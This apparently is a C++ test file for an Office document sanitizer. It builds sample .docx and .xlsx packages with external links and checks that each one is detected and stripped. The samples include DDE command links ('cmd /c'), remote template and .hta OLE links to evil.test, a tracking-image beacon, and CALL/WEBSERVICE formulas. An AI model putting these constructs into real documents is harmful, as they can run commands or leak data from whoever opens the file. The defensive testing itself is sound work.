// Office Open XML: what leads outside of the document.
#include "tests/sanitizer/rows/o_samples.h"
#include "tests/sanitizer/rows/row.h"

namespace sekisho::rows {

namespace {

Bytes book_link(const std::string& content) {
    PackageSample sample = book_with("<externalReferences><externalReference r:id=\"rId2\"/></externalReferences>",
                                     {"rId2", "externalLink", "externalLinks/externalLink1.xml"});
    sample.part("xl/externalLinks/externalLink1.xml", "<externalLink" + sheet_names + ">" + content + "</externalLink>",
                sheet_type + "externalLink+xml");
    sample.links("xl/externalLinks/externalLink1.xml", {{"x", "externalLinkPath", "http://evil.test/b.xlsx", true}});
    return sample.bytes();
}

// One of the parts that hold settings, with a link of its own.
Bytes word_settings(const std::string& kind, const std::string& root, const std::string& content,
                    const tests::Link& link) {
    PackageSample sample = PackageSample::word(word_text, {{"s", kind, kind + ".xml"}});
    sample.part("word/" + kind + ".xml", "<w:" + root + word_names + content + "</w:" + root + ">",
                word_type + kind + "+xml");
    sample.links("word/" + kind + ".xml", {link});
    return sample.bytes();
}

const std::string linked_picture =
    R"(<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="x"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>)";

Bytes with_connection() {
    PackageSample sample = book_with("", {"rId2", "connections", "connections.xml"});
    sample.part("xl/connections.xml",
                "<connections" + sheet_names + R"(><connection id="1" name="evil"/></connections>)",
                sheet_type + "connections+xml");
    return sample.bytes();
}

} // namespace

Row O06() {
    return {.made = {{.name = "dde-link.xlsx",
                      .make = [] { return book_link("<ddeLink ddeService=\"cmd\" ddeTopic=\"/c evil\"/>"); },
                      .found = {Finding::ooxml_dde_link},
                      .gone = {"ddeLink", "evil", "externalReference"},
                      .kept = {"words"}}},
            .never = {"ddeLink"}};
}

Row O07() {
    return {
        .made =
            {{.name = "linked-book.xlsx",
              .make =
                  [] {
                      return book_link(
                          "<externalBook r:id=\"x\"><sheetNames><sheetName val=\"evil\"/></sheetNames></externalBook>");
                  },
              .found = {Finding::ooxml_external_link},
              .gone = {"externalBook", "evil"},
              .kept = {"words"}},
             {.name = "linked-object.xlsx",
              .make = [] { return book_link("<oleLink r:id=\"x\" progId=\"evil\"/>"); },
              .found = {Finding::ooxml_ole_link},
              .gone = {"oleLink", "evil"},
              .kept = {"words"}}},
        .also_found = {Finding::ooxml_connection},
        .never = {"externalBook", "externalLinkPath"}};
}

Row O08() {
    return {.made = {{.name = "template-elsewhere.docx",
                      .make =
                          [] {
                              return word_settings("settings", "settings", "<w:attachedTemplate r:id=\"t\"/>",
                                                   {"t", "attachedTemplate", "https://evil.test/t.dotm", true});
                          },
                      .found = {Finding::ooxml_remote_template},
                      .gone = {"attachedTemplate", "evil.test"},
                      .kept = {"words"}}},
            .never = {"attachedTemplate"}};
}

Row O09() {
    return {.made = {{.name = "frames.docx",
                      .make =
                          [] {
                              return word_settings(
                                  "webSettings", "webSettings",
                                  "<w:frameset><w:frame><w:sourceFileName r:id=\"f\"/></w:frame></w:frameset>",
                                  {"f", "frame", "https://evil.test/f", true});
                          },
                      .found = {Finding::ooxml_frameset},
                      .gone = {"frameset", "evil.test"},
                      .kept = {"words"}}}};
}

Row O10() {
    return {.made = {{.name = "imported-page.docx",
                      .make =
                          [] {
                              return word_with(R"(<w:altChunk r:id="x"/>)", {"x", "aFChunk", "evil.html"});
                          },
                      .found = {Finding::ooxml_alt_chunk},
                      .gone = {"altChunk", "evil.html"},
                      .kept = {"words"}}},
            .never = {"altChunk"}};
}

Row O11() {
    return {
        .made =
            {{.name = "sub-document.docx",
              .make =
                  [] {
                      return word_with(R"(<w:p><w:subDoc r:id="x"/></w:p>)", {"x", "subDocument", "evil.docx", true});
                  },
              .found = {Finding::ooxml_sub_document},
              .gone = {"subDoc", "evil.docx"},
              .kept = {"words"}}},
        .never = {"/subDocument\""}};
}

Row O12() {
    return {.made = {{.name = "picture-elsewhere.docx",
                      .make =
                          [] {
                              return word_with(linked_picture, {"x", "image", "http://evil.test/beacon.png", true});
                          },
                      .found = {Finding::ooxml_external_image},
                      .gone = {"r:link", "evil.test"},
                      .kept = {"words"}}},
            .also_found = {Finding::ooxml_media}};
}

Row O13() {
    return {.made = {{.name = "reading-field.docx",
                      .make = word_field<" INCLUDETEXT \"\\\\\\\\evil.test\\\\a\" ">,
                      .found = {Finding::ooxml_field_include},
                      .gone = {"INCLUDETEXT", "evil.test"},
                      .kept = {"words"}}},
            .never = {"> INCLUDEPICTURE ", "> INCLUDETEXT "}};
}

Row O14() {
    return {
        .made =
            {{.name = "linked-object.docx",
              .make =
                  [] {
                      return word_with(
                          R"(<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="x" UpdateMode="Always"/></w:object></w:r></w:p>)",
                          {"x", "oleObject", "http://evil.test/a.hta", true});
                  },
              .found = {Finding::ooxml_ole_link},
              .gone = {"OLEObject", "evil.test"},
              .kept = {"words"}}},
        .also_found = {Finding::ooxml_external_relationship},
        .never = {"OLEObject"}};
}

Row O15() {
    return {
        .made = {{.name = "mail-merge.docx",
                  .make =
                      [] {
                          return word_settings(
                              "settings", "settings",
                              "<w:mailMerge><w:query w:val=\"evil query\"/><w:dataSource r:id=\"m\"/></w:mailMerge>",
                              {"m", "mailMergeSource", "file:///evil.test", true});
                      },
                  .found = {Finding::ooxml_mail_merge},
                  .gone = {"mailMerge", "evil"},
                  .kept = {"words"}}},
        .never = {"mailMerge"}};
}

Row O16() {
    return {.made = {{.name = "file-link.docx",
                      .make =
                          [] {
                              return word_with(
                                  R"(<w:p><w:hyperlink r:id="b"><w:r><w:t>more</w:t></w:r></w:hyperlink></w:p>)",
                                  {"b", "hyperlink", "file:///c:/evil.test", true});
                          },
                      .found = {Finding::ooxml_hyperlink},
                      .gone = {"file:", "evil.test"},
                      .kept = {"words", "more"}}},
            .also_plain = true,
            .never = {"\"file:", "\"javascript:", "\"ms-"}};
}

Row O22() {
    return {.made = {{.name = "connection.xlsx",
                      .make = with_connection,
                      .found = {Finding::ooxml_connection},
                      .gone = {"connection", "evil"},
                      .kept = {"words"}}},
            .never = {"connections.xml", "queryTable"}};
}

Row O23() {
    return {.made = {{.name = "web-formula.xlsx",
                      .make = formula_cell<"WEBSERVICE(\"http://evil.test\")">,
                      .found = {Finding::ooxml_active_formula},
                      .gone = {"WEBSERVICE", "evil.test"},
                      .kept = {"words"}},
                     {.name = "call-formula.xlsx",
                      .make = formula_cell<"IF(1,CALL(\"evil.test\",\"x\",\"J\"),0)">,
                      .found = {Finding::ooxml_active_formula},
                      .gone = {"CALL(", "evil.test"},
                      .kept = {"words"}},
                     {.name = "dde-formula.xlsx",
                      .make = formula_cell<"cmd|'/c evil.test'!A0">,
                      .found = {Finding::ooxml_dde_link},
                      .gone = {"cmd|", "evil.test"},
                      .kept = {"words"}}},
            .also_plain = true,
            .never = {"WEBSERVICE(", "RTD("}};
}

} // namespace sekisho::rows
